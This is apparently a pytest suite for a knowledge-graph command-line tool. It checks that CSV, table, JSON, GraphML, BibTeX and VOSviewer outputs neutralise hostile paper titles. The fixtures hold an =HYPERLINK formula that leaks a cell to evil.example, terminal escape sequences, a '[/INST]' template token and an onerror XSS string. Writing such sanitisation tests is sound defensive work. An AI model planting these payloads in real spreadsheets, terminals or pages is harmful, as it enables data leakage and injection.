"""Safe output: no formula in CSV, no markup or escape sequence from data on the terminal,
exports valid whatever characters ids and values hold."""

import csv
import io
import json

import networkx as nx
import pytest
from typer.testing import CliRunner

from kg.cli import app
from kg.core.graph import add_entity, add_paper, link_paper, new_graph
from kg.core.papers import Paper
from kg.present.export import export_graph
from kg.store import open_store

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
INST = "Robust [/INST] tuning"
LINK = "See [link=http://evil.example]this[/link] now"
ESCAPE = "Red \x1b[31mtitle\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \x9b2J"


@pytest.fixture
def hostile_store(tmp_path):
    G = new_graph()
    m = add_entity(G, "Method", "tuner", "Tuner", aliases=["Tuner"], papers=4)
    for i, title in enumerate((FORMULA, INST, LINK, ESCAPE)):
        p = add_paper(G, Paper(id=f"p{i}", title=title, abstract="We use Tuner.", year=2024))
        link_paper(G, p, m, "USES", count=1, evidence=[title])
    path = tmp_path / "store"
    open_store(path).write_graph(G)
    return str(path)


def invoke(*args):
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_output_neutralises_formulas(hostile_store):
    out = invoke("papers", "--method", "tuner", "--csv", "--store", hostile_store)
    titles = [r["title"] for r in csv.DictReader(io.StringIO(out))]
    assert "'" + FORMULA in titles
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)


def test_review_csv_export_neutralises_formulas(tmp_path, hostile_store):
    G = open_store(hostile_store).read_graph()
    export_graph(G, "review-csv", tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert "'" + FORMULA in [r["title"] for r in rows]
    assert {r["year"] for r in rows} == {"2024"}  # numbers are not touched


@pytest.mark.parametrize(
    "args",
    [
        ("papers", "--method", "tuner"),
        ("show", "tuner"),
        ("cypher", "MATCH (p:Paper) RETURN p.title AS title"),
    ],
)
def test_tables_show_markup_and_escapes_as_text(args, hostile_store):
    out = invoke(*args, "--store", hostile_store)
    flat = "".join(out.split())  # tables fold long cells over lines
    assert "[/INST]" in flat and "[link=http://evil.example]" in flat
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "\\x1b[31m" in flat


@pytest.mark.slow
def test_json_output_gives_titles_back_exactly(hostile_store):
    out = invoke("cypher", "MATCH (p:Paper) RETURN p.title AS title", "--json", "--store", hostile_store)
    assert "\x9b" not in out  # escaped as \u009b, which JSON reads back
    assert {r["title"] for r in json.loads(out)} == {FORMULA, INST, LINK, ESCAPE}


def test_errors_show_escapes_as_text(hostile_store):
    result = runner.invoke(app, ["show", "no such \x1b[2J thing", "--store", hostile_store])
    assert result.exit_code == 1 and "\x1b" not in result.output and "\\x1b[2J" in result.output


def _control_graph():
    G = new_graph()
    m = add_entity(G, "Method", "a\x01b", "A\x01B \x1b[31m", aliases=["x\x00y"], papers=1)
    p = add_paper(
        G,
        Paper(id="id\x0bwith\x1fcontrols", title="T\x08itle \ud83d", abstract="x", year=2024, authors=["A\x1b Author"]),
    )
    link_paper(G, p, m, "USES", evidence=["e\x0cvidence"])
    return G


@pytest.mark.parametrize("fmt,read", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_graph_files_with_control_characters_read_back(tmp_path, fmt, read):
    G = _control_graph()
    export_graph(G, fmt, tmp_path / f"g.{fmt}")
    H = read(tmp_path / f"g.{fmt}")
    assert H.number_of_nodes() == 2 and H.number_of_edges() == 1
    assert "Paper:id\\x0bwith\\x1fcontrols" in H
    assert {d["label"] for _, d in H.nodes(data=True)} == {"A\\x01B \\x1b[31m", "T\\x08itle \\ud83d"}


def test_text_exports_with_control_characters(tmp_path):
    import bibtexparser

    G = _control_graph()
    export_graph(G, "bibtex", tmp_path / "g.bib")
    bib = (tmp_path / "g.bib").read_text(encoding="utf-8")
    lib = bibtexparser.parse_string(bib)
    assert len(lib.entries) == 1 and not lib.failed_blocks
    assert not any(c in bib for c in "\x00\x01\x08\x0b\x0c\x1b")
    export_graph(G, "cypher", tmp_path / "g.cypher")
    script = (tmp_path / "g.cypher").read_text(encoding="utf-8")
    assert "'id\\u000bwith\\u001fcontrols'" in script and "\\ud83d" in script
    export_graph(G, "json", tmp_path / "g.json")
    back = nx.node_link_graph(json.loads((tmp_path / "g.json").read_text(encoding="utf-8")), edges="edges")
    assert set(back.nodes) == set(G.nodes)  # lossless, lone surrogate included


def test_vosviewer_export_escapes_names_and_keeps_labels_on_one_line(tmp_path):
    from kg.present.termmap import make_term_map
    from kg.present.termmap.vosviewer import read_vosviewer_files

    G = new_graph()
    names = ["<img src=x onerror=alert(1)>", "two\r\nlines\tand tab"]
    ents = [add_entity(G, "Method", f"m{i}", n, aliases=[n], papers=2) for i, n in enumerate(names)]
    for i in range(2):
        p = add_paper(G, Paper(id=f"p{i}", title=f"T{i}", abstract="x", year=2024))
        for e in ents:
            link_paper(G, p, e, "USES")
    from kg.core.graph import add_cooccurrence

    add_cooccurrence(G, ents[0], ents[1], 2, 1.0)
    make_term_map(G, tmp_path / "t.html", vosviewer=tmp_path / "v.json", min_papers=1)
    doc = json.loads((tmp_path / "v.json").read_text(encoding="utf-8"))
    descriptions = " ".join(d["description"] for d in doc["network"]["items"])
    assert "<img" not in descriptions and "&lt;img src=x onerror=alert(1)&gt;" in descriptions
    make_term_map(G, tmp_path / "t.html", vosviewer=tmp_path / "v.txt", min_papers=1)
    items, links = read_vosviewer_files(
        (tmp_path / "v.txt").read_text(encoding="utf-8"), (tmp_path / "v_network.txt").read_text(encoding="utf-8")
    )
    assert sorted(i.label for i in items) == sorted([names[0], "two lines and tab"]) and len(links) == 1


def test_a_page_whose_data_holds_a_lone_surrogate_is_written_and_sized_from_the_file(tmp_path):
    """The harness's long mode: ``kg viz`` sized the page by encoding the HTML, which raised on a
    lone surrogate that the file writer itself replaces with U+FFFD."""
    from kg.present.viz.page import write_page

    G = new_graph()
    p = add_paper(G, Paper(id="p1", title="Lone \ud83d surrogate", abstract="A.", year=2024))
    m = add_entity(G, "Method", "tinynet", "TinyNet \ud83d", aliases=["TinyNet"], papers=1)
    link_paper(G, p, m, "USES", evidence=["We use TinyNet \ud83d."])
    out = tmp_path / "page.html"
    info = write_page(G, out)
    assert info.bytes == out.stat().st_size > 0
